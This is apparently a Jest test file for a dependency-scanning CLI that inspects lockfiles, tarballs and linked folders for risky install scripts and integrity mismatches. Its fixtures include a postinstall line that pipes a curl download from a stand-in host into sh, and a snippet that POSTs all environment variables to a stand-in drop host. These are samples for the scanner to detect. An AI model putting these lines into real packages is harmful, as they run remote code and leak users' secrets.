/** Packages of this machine's disk through the built command line: tarballs and linked folders are judged by what they hold. */
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { commitAll, git } from '../helpers/a-repository.ts';
import { aPackage } from '../helpers/a-tarball.ts';
import { aWorkplace, type Workplace } from '../helpers/run-cli.ts';

const bad = { name: 'dep', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.invalid/a.sh | sh' } };
const theft = 'const e = process.env;\nfetch("https://drop.invalid/x", { method: "POST", body: JSON.stringify(e) });';
let place: Workplace;
beforeEach(() => {
  place = aWorkplace('http://127.0.0.1:9/');
  place.write('package.json', { name: 'app', version: '1.0.0' });
});
afterEach(() => place.remove());

async function judged(...args: readonly string[]) {
  const { code, stdout, stderr } = await place.run(...args, '--format', 'json');
  if (!stdout.startsWith('{')) throw new Error(stderr);
  const { findings, coverage } = JSON.parse(stdout);
  return { code, rules: findings.map(({ ruleId }: { ruleId: string }) => ruleId), notOffered: coverage.notOffered };
}

function lock(resolved: string, packages: object, spec = `file:${resolved}`): void {
  const root = { name: 'app', version: '1.0.0', dependencies: { dep: spec } };
  place.write('package.json', root);
  place.write('package-lock.json', { name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': root, ...packages } });
}

function linked(folder: string): void {
  lock(folder, { [folder]: { version: '1.0.0' }, 'node_modules/dep': { resolved: folder, link: true } });
}

describe('check', () => {
  it('a tarball by its bytes', async () => {
    writeFileSync(join(place.folder, 'd.tgz'), aPackage(bad, {}));
    expect(await judged('check', './d.tgz')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
    writeFileSync(join(place.folder, 'd.tgz'), aPackage({ name: 'dep', version: '1.0.0' }, { 'index.js': 'module.exports = 1;' }));
    expect(await judged('check', './d.tgz')).toMatchObject({ code: 0, rules: [] });
  });

  it('a tarball that is not the one of the lockfile', async () => {
    writeFileSync(join(place.folder, 'd.tgz'), aPackage({ name: 'dep', version: '1.0.0' }, { 'index.js': 'module.exports = 1;' }));
    const integrity = `sha512-${Buffer.alloc(64).toString('base64')}`;
    lock('d.tgz', { 'node_modules/dep': { version: '1.0.0', resolved: 'file:d.tgz', integrity } });
    expect(await judged('check')).toMatchObject({ code: 1, rules: ['tarball-mismatch'] });
  });

  it('a folder by what installing it runs, in it or beside it', async () => {
    place.write('dep/package.json', bad);
    expect(await judged('check', './dep')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
    place.write('../beside/package.json', { ...bad, scripts: { prepare: 'node build.js' } });
    place.write('../beside/build.js', theft);
    expect(await judged('check', '../beside')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
  });

  it('of a folder nothing else: its other code is the user’s own', async () => {
    place.write('dep/package.json', { name: 'dep', version: '1.0.0' });
    place.write('dep/index.js', theft);
    expect(await judged('check', './dep')).toMatchObject({ code: 0, rules: [], notOffered: [] });
    place.write('dep/package.json', { name: 'dep', version: '1.0.0', scripts: { prepare: 'node build.js' } });
    place.write('dep/build.js', 'console.log(1)');
    expect(await judged('check', './dep')).toMatchObject({ code: 0, rules: [], notOffered: [] });
  });

  it('what is there is read each time', async () => {
    place.write('dep/package.json', { ...bad, scripts: { install: 'node i.js' } });
    place.write('dep/i.js', 'console.log(1)');
    linked('dep');
    expect((await judged('check')).code).toBe(0);
    place.write('dep/i.js', theft);
    expect((await judged('check')).code).toBe(1);
  });

  it('what is not there is told', async () => {
    linked('gone');
    const { code, notOffered } = await judged('check');
    expect(code).toBe(0);
    expect(JSON.stringify(notOffered)).toContain('there is nothing at that path');
  });
});

describe('gate', () => {
  beforeEach(() => {
    git(place.folder, 'init', '-q', '-b', 'main');
    lock('', {});
    place.write('package.json', { name: 'app', version: '1.0.0' });
    commitAll(place.folder);
  });

  it('a linked folder of the repository, in npm’s lockfile and in pnpm’s', async () => {
    place.write('vendor/dep/package.json', bad);
    linked('vendor/dep');
    expect(await judged('gate')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
    git(place.folder, 'checkout', '-q', '--', '.');
    const importer = 'importers:\n\n  .:\n    dependencies:\n      dep:\n        specifier: file:vendor/dep\n        version: file:vendor/dep\n';
    const entry =
      '\npackages:\n\n  dep@file:vendor/dep:\n    resolution: {directory: vendor/dep, type: directory}\n\nsnapshots:\n\n  dep@file:vendor/dep: {}\n';
    place.write(
      'pnpm-lock.yaml',
      `lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\n${importer}${entry}`,
    );
    expect(await judged('gate', '--lockfile', 'pnpm-lock.yaml')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
  });

  it('a lockfile below the root means paths from there', async () => {
    place.write('a/dep/package.json', bad);
    const root = { name: 'a', dependencies: { dep: 'file:dep' } };
    place.write('a/package.json', root);
    const packages = { '': root, dep: { version: '1.0.0' }, 'node_modules/dep': { resolved: 'dep', link: true } };
    place.write('a/package-lock.json', { name: 'a', lockfileVersion: 3, requires: true, packages });
    expect(await judged('gate')).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
  });

  it('the same path below two lockfiles is two packages, told with all places of what is the same', async () => {
    for (const folder of ['a', 'b', 'c']) {
      place.write(`${folder}/dep/package.json`, folder === 'b' ? bad : { name: 'dep', version: '1.0.0', scripts: { prepare: 'node -p 1' } });
      const root = { name: folder, dependencies: { dep: 'file:dep', far: 'https://x.invalid/far.tgz' } };
      place.write(`${folder}/package.json`, root);
      const far = { version: '1.0.0', resolved: 'https://x.invalid/far.tgz' };
      const packages = { '': root, dep: { version: '1.0.0' }, 'node_modules/dep': { resolved: 'dep', link: true }, 'node_modules/far': far };
      place.write(`${folder}/package-lock.json`, { name: folder, lockfileVersion: 3, requires: true, packages });
    }
    const { code, rules } = await judged('gate');
    expect({ code, rules }).toMatchObject({ code: 1, rules: expect.arrayContaining(['install-code-risk']) });
    const { findings } = JSON.parse((await place.run('gate', '--format', 'json')).stdout);
    expect(findings.find(({ ruleId }: { ruleId: string }) => ruleId === 'install-code-risk').subject.where.file).toBe('b/package-lock.json');
    const { subject } = findings.find(({ ruleId }: { ruleId: string }) => ruleId === 'remote-source');
    expect(subject).toMatchObject({
      where: { file: 'a/package-lock.json' },
      alsoAt: [{ file: 'b/package-lock.json' }, { file: 'c/package-lock.json' }],
    });
    expect((await place.run('gate')).stdout).toMatch(
      /far@1\.0\.0 \(a\/package-lock\.json:\d+, b\/package-lock\.json:\d+, c\/package-lock\.json:\d+\)/,
    );
    expect((await place.run('gate', '--format', 'github')).stdout).toMatch(/It also stands in b\/package-lock\.json:\d+ and c\/package-lock\.json/);
    expect((await place.run('gate', '--format', 'markdown')).stdout).toMatch(/In <code>a\S+?json\S+<\/code>, <code>b/);
    const sarif = JSON.parse((await place.run('gate', '--format', 'sarif')).stdout);
    expect(JSON.stringify(sarif.runs[0].results)).toContain(
      '"relatedLocations":[{"physicalLocation":{"artifactLocation":{"uri":"b/package-lock.json"',
    );
  });

  it('nothing outside of the repository, by dots or by a link', async () => {
    place.write('../beside/package.json', bad);
    linked('../beside');
    expect(JSON.stringify((await judged('gate')).notOffered)).toContain('outside of the repository');
    mkdirSync(join(place.folder, 'vendor'));
    symlinkSync(join(place.folder, '..', 'beside'), join(place.folder, 'vendor', 'dep'));
    linked('vendor/dep');
    expect(JSON.stringify((await judged('gate')).notOffered)).toContain('outside of the repository');
  });

  it('not from the folder where another commit is judged', async () => {
    place.write('vendor/dep/package.json', bad);
    linked('vendor/dep');
    commitAll(place.folder);
    expect((await judged('gate', '--base', 'HEAD~1')).code).toBe(1);
    expect(JSON.stringify((await judged('gate', '--base', 'HEAD~1', '--head', 'HEAD')).notOffered)).toContain('not read here');
  });
});
